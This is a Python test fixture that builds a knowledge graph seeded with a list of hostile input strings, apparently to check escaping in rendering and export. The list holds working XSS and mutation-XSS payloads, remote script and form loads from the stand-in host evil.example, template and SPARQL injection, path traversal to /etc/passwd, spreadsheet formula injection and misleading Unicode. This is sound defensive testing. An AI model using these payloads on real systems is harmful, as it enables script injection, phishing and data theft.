"""Text as hostile documents might hold it, and a graph in which it stands wherever a document has a say."""

import networkx as nx

from kg.model import Document, Kind, Party, Statement, StatementKind

HIT = "window.hit=1"  # what every script among them would do
PAYLOADS = {
    # markup that runs or loads
    "script": f"<script>{HIT}</script>",
    "script ends": f"</script><script>{HIT}</script>",
    "JSON script ends": f"</ScRiPt ><script>{HIT}//",
    "comment and script": f"<!--<script>{HIT}",
    "comment": f"--><script>{HIT}</script><!--",
    "CDATA": f"]]><![CDATA[<script>{HIT}</script>",
    "image": f"<img src=x onerror={HIT}>",
    "image without an end": f"<img/src='x'/onerror={HIT} ",
    "svg": f"<svg onload={HIT}><animate onbegin={HIT} attributeName=x></svg>",
    "iframe": f"<iframe src=javascript:parent.{HIT}></iframe>",
    "srcdoc": f"<iframe srcdoc='&lt;script&gt;parent.{HIT}&lt;/script&gt;'></iframe>",
    "object": "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "remote script": "<script src=https://evil.example/s.js></script>",
    "remote style": "<link rel=stylesheet href=https://evil.example/s><style>@import '//evil.example/t'</style>",
    "remote video": f"<video><source onerror={HIT} src=https://evil.example/v></video>",
    "details": f"<details open ontoggle={HIT}>",
    "focus": f"<input autofocus onfocus={HIT}>",
    "meta": f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "base": "<base href=https://evil.example/ target=_top>",
    "form": "</form><form action=https://evil.example/ method=post><button>Search</button></form>",
    "title ends": f"</title></style></textarea></noscript></template><script>{HIT}</script>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "mutation in MathML": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img onerror={HIT}>'>",
    "mutation in svg": f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    # out of an attribute, a style, a template, a string
    "double quote": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "single quote": f"' onmouseover='{HIT}' x='",
    "backtick": f"` onmouseover={HIT} `${{{HIT}}}`",
    "style": "red;background:url(https://evil.example/c)}*{display:none!important}</style>",
    "template": "{{7*7}}{% raw %}{{config}}{# #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    "string": f"\\';{HIT};//\\\";{HIT};//",
    "line separators": f"one\u2028{HIT}\u2029two",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &#60;img&#62; &amp;amp; &copy",
    "href": "a plain href in a name",
    # addresses
    "javascript": f"javascript:{HIT}",
    "javascript, hidden": f" \tjAvA\tscript:{HIT}",
    "data": f"data:text/html,<script>parent.{HIT}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "no scheme": "//evil.example/x",
    "file": "file:///etc/passwd",
    "path": "../../../../etc/passwd%00.html",
    # letters that mislead
    "override": "\u202egnp.exe\u2066invoice",
    "invisible": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "control": "bell\x07 escape\x1b[31m null\x00 delete\x7f",
    "lone surrogate": "half \ud800 and \udfff",
    "combining": "Z" + "\u0335\u0321\u0352" * 30,
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇱🇻",
    "right to left": "محمد بن سلمان آل سعود (المملكة)",
    "long": "Long" * 500,
    # names that mean something to a language
    "prototype": "__proto__",
    "constructor": "constructor",
    "method": "toString",
    "own property": "hasOwnProperty",
    "SPARQL": '"} ; DROP ALL ; SELECT * { ?s ?p "',
    "Turtle": '<urn:x> <urn:y> """.\n@prefix : <https://evil.example/> .',
    "formula": "=cmd|' /C calc'!A0",
    "other formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "selector": '"],*{x:y}/*[data-statement="',
}  # fmt: skip


def graph() -> tuple[nx.MultiDiGraph, list[Statement], list[Document]]:
    """A ring in which every payload is the name, an alias and the id of a holder and of a target, and a relation; and
    the context, words, title, publisher, rule, speech act, source and address of two statements, the second of which
    has it as the end of a web address."""
    texts = list(PAYLOADS.values())
    network, statements, documents = nx.MultiDiGraph(), [], []
    for i, text in enumerate(texts):
        network.add_node(text, label=text, kind="Person", aliases=(text, f"also {text}"))
        said = []
        for address in (text, f"https://news.example/{text}"):
            line = text.replace("\n", " ")
            document = Document.of(
                f"{line} {text} {line} {address}", title=text, publisher=text, published="2025-01-02"
            )
            start, end = len(text) + 1, 2 * len(text) + 1
            holder, target = (Party(one, one, Kind.PERSON, start, end) for one in (text, texts[i - 1]))
            said.append(Statement(
                kind=StatementKind.STANCE, holder=holder, relation=text, target=target, polarity=-1, rule=text,
                confidence=0.5, evidence=document.span(start, end), cues=(document.span(start, start + 1),),
                attributed_to=(target,), speech_act=text, uri=address,
            ))  # fmt: skip
            documents.append(document)
        network.add_edge(text, texts[i - 1], text, relation=text, polarity=-1, kind="stance", weight=2,
                         statements=tuple(s.key for s in said))  # fmt: skip
        statements += said
    return network, statements, documents
